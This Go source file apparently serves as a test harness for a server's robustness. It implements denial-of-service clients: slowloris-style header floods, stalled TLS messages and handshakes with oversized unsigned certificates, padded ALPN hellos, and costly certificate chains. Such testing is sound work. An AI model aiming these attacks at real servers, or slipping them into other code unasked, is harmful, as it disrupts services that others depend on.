package flood

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
)

// An Attack is what each stranger does with its connection: see Headers, Lines, Message, Handshake,
// Hello and Chain.
type Attack struct {
	How      string // one of those
	Bytes    int
	Secure   bool   // Headers: over TLS
	Protocol string // Message and Handshake: by ALPN
}

// use uses a connection until it is closed, or ctx ends. It calls sent when it has sent all that it
// can, or that the other end takes.
func (a Attack) use(ctx context.Context, conn net.Conn, sent func()) {
	switch a.How {
	case "headers":
		a.headers(conn, sent)
	case "lines":
		a.lines(conn, sent)
	case "message":
		a.message(conn, sent)
	case "handshake":
		a.handshake(ctx, conn, sent)
	case "hello":
		a.hello(ctx, conn, sent)
	case "chain":
		a.chain(ctx, conn, sent)
	default:
		panic("flood: no attack is called " + a.How)
	}
}

// linger waits until the other end closes the connection.
func linger(conn net.Conn) { _, _ = io.Copy(io.Discard, conn) }

// secured returns a connection over TLS, if the attack is.
func (a Attack) secured(conn net.Conn) net.Conn {
	if !a.Secure {
		return conn
	}
	//nolint:gosec // it is an attacker: whom it attacks does not matter to it
	return tls.Client(conn, &tls.Config{InsecureSkipVerify: true})
}

// Headers sends so many bytes of a request's headers, and no end of them; over TLS if secure.
func Headers(bytes int, secure bool) Attack {
	return Attack{
		How:    "headers",
		Bytes:  bytes,
		Secure: secure,
	}
}

func (a Attack) headers(conn net.Conn, sent func()) {
	conn = a.secured(conn)
	_, err := fmt.Fprintf(conn, "GET /metrics HTTP/1.1\r\nHost: flood\r\n")
	// many lines a write: over TLS each write is a record, which costs the attacker more than its
	// victim, and both share this machine
	lines := strings.Repeat("X-Flood: "+strings.Repeat("f", 1000)+"\r\n", 16)
	for written := 0; err == nil && written < a.Bytes; written += len(lines) {
		_, err = io.WriteString(conn, lines)
	}
	sent()
	linger(conn)
}

// Lines sends so many bytes of a request's headers, in as many lines as they can be, and no end of
// them; over TLS if secure.
func Lines(bytes int, secure bool) Attack {
	return Attack{
		How:    "lines",
		Bytes:  bytes,
		Secure: secure,
	}
}

func (a Attack) lines(conn net.Conn, sent func()) {
	conn = a.secured(conn)
	var request strings.Builder
	request.WriteString("GET /metrics HTTP/1.1\r\n")
	for i := 0; request.Len() < a.Bytes; i++ {
		fmt.Fprintf(&request, "%s:\n", strconv.FormatInt(int64(i), 36))
	}
	_, _ = io.WriteString(conn, request.String())
	sent()
	linger(conn)
}

// Message sends the beginning of a length-delimited message of so many bytes over TLS, by a
// protocol and without a certificate, and keeps back its last byte.
func Message(protocol string, bytes int) Attack {
	return Attack{
		How:      "message",
		Protocol: protocol,
		Bytes:    bytes,
	}
}

func (a Attack) message(conn net.Conn, sent func()) {
	//nolint:gosec // as above
	conn = tls.Client(conn, &tls.Config{
		InsecureSkipVerify: true,
		NextProtos:         []string{a.Protocol},
	})
	message := make([]byte, 4+a.Bytes-1)
	binary.BigEndian.PutUint32(message, uint32(a.Bytes)) //nolint:gosec // a few MiB
	_, _ = conn.Write(message)
	sent()
	linger(conn)
}

// Handshake shows a certificate of so many bytes, which nobody has signed, to a server of a
// protocol, and keeps back the last of them: the handshake does not end.
func Handshake(protocol string, bytes int) Attack {
	return Attack{
		How:      "handshake",
		Protocol: protocol,
		Bytes:    bytes,
	}
}

func (a Attack) handshake(ctx context.Context, conn net.Conn, sent func()) {
	short := &cut{
		Conn: conn,
		left: a.Bytes,
		ctx:  ctx,
		sent: sent,
	}
	//nolint:gosec // as above
	client := tls.Client(short, &tls.Config{
		InsecureSkipVerify: true,
		NextProtos:         []string{a.Protocol},
		GetClientCertificate: func(*tls.CertificateRequestInfo) (*tls.Certificate, error) {
			return &tls.Certificate{
				Certificate: [][]byte{make([]byte, a.Bytes)},
				PrivateKey:  noKey{},
			}, nil
		},
	})
	_ = client.HandshakeContext(ctx)
	sent()
	linger(conn)
}

// Hello begins a handshake with a list of so many bytes of protocols with the shortest names, the
// right one last, and says nothing when the server has answered it.
func Hello(protocol string, bytes int) Attack {
	return Attack{
		How:      "hello",
		Protocol: protocol,
		Bytes:    bytes,
	}
}

func (a Attack) hello(ctx context.Context, conn net.Conn, sent func()) {
	protocols := make([]string, 0, a.Bytes/2+1)
	for len(protocols) < a.Bytes/2 {
		protocols = append(protocols, "x")
	}
	//nolint:gosec // as above
	client := tls.Client(deaf{conn, sent}, &tls.Config{
		InsecureSkipVerify: true,
		NextProtos:         append(protocols, a.Protocol),
	})
	_ = client.HandshakeContext(ctx)
	sent()
}

// deaf is a connection on which an answer is waited for, and not taken.
type deaf struct {
	net.Conn
	sent func()
}

func (d deaf) Read([]byte) (int, error) {
	d.sent()
	linger(d.Conn)
	return 0, io.ErrClosedPipe
}

// Chain shows a server of a protocol a certificate that nobody trusted has signed, with so many
// bytes of others of the name that has signed it: the server is to try each with each.
func Chain(protocol string, bytes int) Attack {
	return Attack{
		How:      "chain",
		Protocol: protocol,
		Bytes:    bytes,
	}
}

func (a Attack) chain(ctx context.Context, conn net.Conn, sent func()) {
	shown := chains(a.Bytes)
	//nolint:gosec // as above
	client := tls.Client(conn, &tls.Config{
		InsecureSkipVerify: true,
		NextProtos:         []string{a.Protocol},
		GetClientCertificate: func(*tls.CertificateRequestInfo) (*tls.Certificate, error) {
			return &shown, nil
		},
	})
	_ = client.HandshakeContext(ctx)
	sent()
	linger(conn)
}

// cut lets so many bytes pass.
type cut struct {
	net.Conn
	left int
	ctx  context.Context // it ends with the attack
	sent func()
}

func (c *cut) Write(p []byte) (int, error) {
	if len(p) <= c.left {
		c.left -= len(p)
		return c.Conn.Write(p)
	}
	if _, err := c.Conn.Write(p[:c.left]); err != nil {
		return 0, err
	}
	c.sent()
	linger(c.Conn)
	return 0, io.ErrClosedPipe
}
